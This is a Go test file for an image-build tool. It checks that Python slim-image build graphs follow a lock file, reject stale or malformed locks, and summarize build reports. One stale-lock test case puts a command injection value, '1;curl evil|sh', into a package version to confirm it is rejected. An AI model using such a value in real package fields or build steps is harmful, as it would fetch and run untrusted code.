package recipes

import (
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/imagebuild/imagebuild/graph"
	"github.com/imagebuild/imagebuild/ref"
	"github.com/moby/buildkit/solver/pb"
	ocispecs "github.com/opencontainers/image-spec/specs-go/v1"
)

// testLock is a lock of python-slim with its default packages for
// testDists, on its own base, an sdist each with setuptools as its build
// requirement.
func testLock() *Lock {
	setuptools := PythonFile{Name: "setuptools", Version: "78.1.1", File: "setuptools-78.1.1-py3-none-any.whl", SHA256: strings.Repeat("c3", 32)}
	pl := PlatformLock{
		Base:      PythonSlimBase,
		Distro:    "debian",
		Requested: DebianBuildPackages(),
		Packages:  []Package{{Name: "gcc-12", Version: "12.2.0-14", Arch: "amd64", Checksum: strings.Repeat("d4", 32)}},
		Distributions: map[string]LockedDistribution{
			"asyncpg==0.30.0": {File: "asyncpg-0.30.0.tar.gz", Requires: []PythonFile{setuptools}},
			"hiredis==2.3.2":  {File: "hiredis-2.3.2.tar.gz", Requires: []PythonFile{setuptools}},
		},
	}
	return &Lock{Platforms: map[string]PlatformLock{"linux/amd64": pl}}
}

// lockedContext is a build context whose requirements are testDists,
// hashed, beside the lock l.
func lockedContext(t *testing.T, l *Lock) graph.Context {
	t.Helper()
	dir := t.TempDir()
	var reqs []string
	for _, d := range testDists {
		reqs = append(reqs, d.requirement())
	}
	if err := os.WriteFile(filepath.Join(dir, "requirements.txt"), []byte(strings.Join(reqs, "\n")+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if l != nil {
		dt, err := l.Marshal()
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, LockFile), dt, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	c, err := graph.LoadContext(dir)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// env returns the value of the variable name in e's environment.
func env(e *pb.ExecOp, name string) (string, bool) {
	for _, kv := range e.Meta.Env {
		if v, ok := strings.CutPrefix(kv, name+"="); ok {
			return v, true
		}
	}
	return "", false
}

func TestGraphFollowsTheLock(t *testing.T) {
	l := testLock()
	img, err := PythonSlim{}.Image(Inputs{Platform: amd64, Context: lockedContext(t, l)})
	if err != nil {
		t.Fatal(err)
	}
	if len(img.Warnings) != 0 {
		t.Errorf("a build from a lock warns %q", img.Warnings)
	}
	if !slices.ContainsFunc(img.ContextFiles, func(f graph.ContextFile) bool { return f.Path == LockFile }) {
		t.Errorf("the graph does not name %s among the context files it reads: %+v", LockFile, img.ContextFiles)
	}
	_, ops, root := marshal(t, img)
	var locked, floating, builds int
	for _, e := range execs(ops) {
		args := strings.Join(e.Meta.Args, " ")
		if strings.Contains(args, "aptget install") && strings.Contains(args, "imagebuild-locked") {
			locked++
			if !strings.Contains(args, "gcc-12\t12.2.0-14\tamd64\t"+strings.Repeat("d4", 32)) {
				t.Errorf("the locked install does not name the locked package: %q", e.Meta.Args)
			}
		} else if strings.Contains(args, "aptget install") {
			floating++
		}
		if slices.Contains(e.Meta.Args, "install") && strings.HasSuffix(e.Meta.Args[0], "python") {
			builds++
			reqs, ok := env(e, "IMAGEBUILD_BUILD_REQUIREMENTS")
			var files []PythonFile
			if !ok || json.Unmarshal([]byte(reqs), &files) != nil || len(files) != 1 || files[0].Version != "78.1.1" {
				t.Errorf("the step %q does not get its locked build requirements: %q", e.Meta.Args[3], reqs)
			}
			if file, _ := env(e, "IMAGEBUILD_LOCKED_FILE"); !strings.HasSuffix(file, ".tar.gz") {
				t.Errorf("the step %q does not get the file it was locked with: %q", e.Meta.Args[3], file)
			}
			if _, ok := env(e, "IMAGEBUILD_WHEELHOUSE"); ok {
				t.Errorf("the step %q reads a wheelhouse, and the lock has no builder image", e.Meta.Args[3])
			}
		}
	}
	if locked != 1 || floating != 0 || builds != len(testDists) {
		t.Errorf("%d locked installs, %d unlocked, %d distribution steps; want 1, 0 and %d", locked, floating, builds, len(testDists))
	}
	_, layers := runtime(t, ops, root)
	app := copies(layers[len(layers)-1])
	if len(app) != 1 || !slices.Contains(app[0].ExcludePatterns, LockFile) {
		t.Errorf("the app's layer copies the lock: %+v", app)
	}
}

func TestGraphFromTheBuilderImage(t *testing.T) {
	l := testLock()
	l.Builder = ref.Pin("registry.example/team/builder:1@sha256:" + strings.Repeat("e5", 32))
	_, ops, _ := recipeGraph(t, PythonSlim{}, Inputs{Platform: amd64, Context: lockedContext(t, l)})
	if srcs := imageSources(ops); !slices.Contains(srcs, "docker-image://"+l.Builder.String()) || !slices.Contains(srcs, "docker-image://"+PythonSlimBase.String()) {
		t.Errorf("image sources %q: want the builder image (the builder stage) and the base (the runtime)", srcs)
	}
	for _, e := range execs(ops) {
		args := strings.Join(e.Meta.Args, " ")
		if strings.Contains(args, "apt-get") || strings.Contains(args, "-m venv") {
			t.Errorf("a build from a builder image runs %q", e.Meta.Args)
		}
		if slices.Contains(e.Meta.Args, "install") && strings.HasSuffix(e.Meta.Args[0], "python") {
			if dir, _ := env(e, "IMAGEBUILD_WHEELHOUSE"); dir != wheelhouseDir {
				t.Errorf("the step %q does not take its build requirements from the wheelhouse", e.Meta.Args[3])
			}
		}
	}
}

func TestStaleLock(t *testing.T) {
	for _, tt := range []struct {
		name  string
		edit  func(*Lock)
		in    Inputs
		r     Recipe
		error string
	}{
		{name: "another platform", edit: func(l *Lock) {}, in: Inputs{Platform: ocispecs.Platform{OS: "linux", Architecture: "arm64"}},
			error: "imagebuild.lock: no linux/arm64 (it locks linux/amd64); run imagebuild lock again"},
		{name: "another base", edit: func(l *Lock) {
			pl := l.Platforms["linux/amd64"]
			pl.Base = PythonAlpineBase
			l.Platforms["linux/amd64"] = pl
		}, error: "linux/amd64 was locked on the base " + PythonAlpineBase.String()},
		{name: "other packages", r: PythonSlim{Packages: []string{"gcc"}}, edit: func(l *Lock) {},
			error: `linux/amd64 was locked for the packages`},
		{name: "a distribution it does not record", edit: func(l *Lock) {
			delete(l.Platforms["linux/amd64"].Distributions, "hiredis==2.3.2")
		}, error: "imagebuild.lock records nothing for hiredis==2.3.2: the requirements changed since it was made; run imagebuild lock again"},
		{name: "a build requirement without its hash", edit: func(l *Lock) {
			l.Platforms["linux/amd64"].Distributions["hiredis==2.3.2"] = LockedDistribution{File: "x.tar.gz", Requires: []PythonFile{{Name: "setuptools", Version: "1", File: "s.whl", SHA256: "00"}}}
		}, error: `is not a sha256; run imagebuild lock to write it again`},
		{name: "a package that is a shell command", edit: func(l *Lock) {
			l.Platforms["linux/amd64"].Packages[0].Version = "1;curl evil|sh"
		}, error: `is not a package name`},
	} {
		t.Run(tt.name, func(t *testing.T) {
			l := testLock()
			tt.edit(l)
			in := tt.in
			if in.Platform.OS == "" {
				in.Platform = amd64
			}
			in.Context = lockedContext(t, l)
			r := tt.r
			if r == nil {
				r = PythonSlim{}
			}
			_, err := r.Image(in)
			var fe *graph.FieldError
			if !errors.As(err, &fe) || fe.Field != "Lock" || !strings.Contains(err.Error(), tt.error) {
				t.Errorf("Image: %v; want a FieldError on Lock saying %q", err, tt.error)
			}
		})
	}
}

func TestWithoutLockTheBuildSaysItFloats(t *testing.T) {
	img, err := PythonSlim{}.Image(Inputs{Platform: amd64, Context: lockedContext(t, nil)})
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(img.Warnings, []string{FloatingBuilder}) {
		t.Errorf("warnings %q, want the one that says the builder stage floats", img.Warnings)
	}
}

func TestReadLockRecords(t *testing.T) {
	files := map[string][]byte{
		packagesRecord:                []byte("libpq5\t15.8-0+deb12u1\tamd64\t" + strings.Repeat("ab", 32) + "\ngcc\t4:12.2.0-3\tamd64\t" + strings.Repeat("cd", 32) + "\n"),
		distsRecord + "/0001.json":    []byte(`{"key": "hiredis==2.3.2", "file": "hiredis-2.3.2.tar.gz", "requires": [{"name": "setuptools", "version": "78.1.1", "file": "setuptools-78.1.1-py3-none-any.whl", "sha256": "` + strings.Repeat("ef", 32) + `"}]}`),
		distsRecord + "/0002.json":    []byte(`{"key": "six==1.16.0", "file": "six-1.16.0-py2.py3-none-any.whl", "requires": []}`),
		"/something-the-lock-ignores": []byte("x"),
	}
	b := Base{Pin: PythonSlimBase, Distro: Debian}
	pl, err := ReadLockRecords(files, b, []string{"gcc"})
	if err != nil {
		t.Fatal(err)
	}
	if len(pl.Packages) != 2 || pl.Packages[0].Name != "gcc" || pl.Packages[0].Version != "4:12.2.0-3" {
		t.Errorf("packages %+v, want gcc then libpq5, sorted", pl.Packages)
	}
	if d := pl.Distributions["hiredis==2.3.2"]; len(d.Requires) != 1 || d.File != "hiredis-2.3.2.tar.gz" {
		t.Errorf("hiredis: %+v", d)
	}
	if d, ok := pl.Distributions["six==1.16.0"]; !ok || d.Requires == nil || len(d.Requires) != 0 {
		t.Errorf("six (a wheel): %+v, %v; want no build requirements", d, ok)
	}
	l := &Lock{Platforms: map[string]PlatformLock{"linux/amd64": pl}}
	dt, err := l.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	back, err := ParseLock(dt)
	if err != nil {
		t.Fatalf("ParseLock of what Marshal wrote: %v\n%s", err, dt)
	}
	if again, _ := back.Marshal(); string(again) != string(dt) {
		t.Errorf("a lock read back and written again differs:\n%s\n%s", dt, again)
	}

	files[packagesRecord] = []byte("gcc\t1\n")
	if _, err := ReadLockRecords(files, b, nil); err == nil {
		t.Error("a packages record without architecture and checksum is read")
	}
}

func TestSummarizeReports(t *testing.T) {
	got := SummarizeReports(map[string][]byte{
		"hiredis 2.3.2":  []byte(`{"file": "hiredis-2.3.2.tar.gz", "wheel": "hiredis-2.3.2-cp311-cp311-linux_x86_64.whl", "compiled": true}`),
		"asyncpg 0.30.0": []byte(`{"file": "asyncpg-0.30.0.tar.gz", "wheel": "asyncpg-0.30.0-cp311-cp311-linux_aarch64.whl", "compiled": true, "cross": true}`),
		"six 1.16.0":     []byte(`{"file": "six-1.16.0-py2.py3-none-any.whl", "wheel": "six-1.16.0-py2.py3-none-any.whl"}`),
		"colorama 0.4.6": []byte(`{"file": "", "wheel": ""}`),
		"garbage":        []byte(`not json`),
	})
	if want := "1 distributions installed from wheels, 2 compiled from source (asyncpg 0.30.0 cross-compiled, hiredis 2.3.2)"; got != want {
		t.Errorf("SummarizeReports = %q, want %q", got, want)
	}
	if got := SummarizeReports(nil); got != "" {
		t.Errorf("SummarizeReports(nil) = %q", got)
	}
}

// TestLockOfWheelsInstallsNoPackages: a lock that fetched a wheel for each
// distribution needs no build dependencies: the builder stage installs
// none, locked or not.
func TestLockOfWheelsInstallsNoPackages(t *testing.T) {
	l := testLock()
	pl := l.Platforms["linux/amd64"]
	pl.Distributions = map[string]LockedDistribution{
		"asyncpg==0.30.0": {File: "asyncpg-0.30.0-cp311-cp311-manylinux_2_17_x86_64.whl"},
		"hiredis==2.3.2":  {File: "hiredis-2.3.2-cp311-cp311-manylinux_2_17_x86_64.whl"},
	}
	l.Platforms["linux/amd64"] = pl
	img, err := PythonSlim{}.Image(Inputs{Platform: amd64, Context: lockedContext(t, l)})
	if err != nil {
		t.Fatal(err)
	}
	_, ops, _ := marshal(t, img)
	for _, e := range execs(ops) {
		if args := strings.Join(e.Meta.Args, " "); strings.Contains(args, "aptget install") {
			t.Errorf("a lock of wheels installs packages: %q", e.Meta.Args)
		}
	}
}
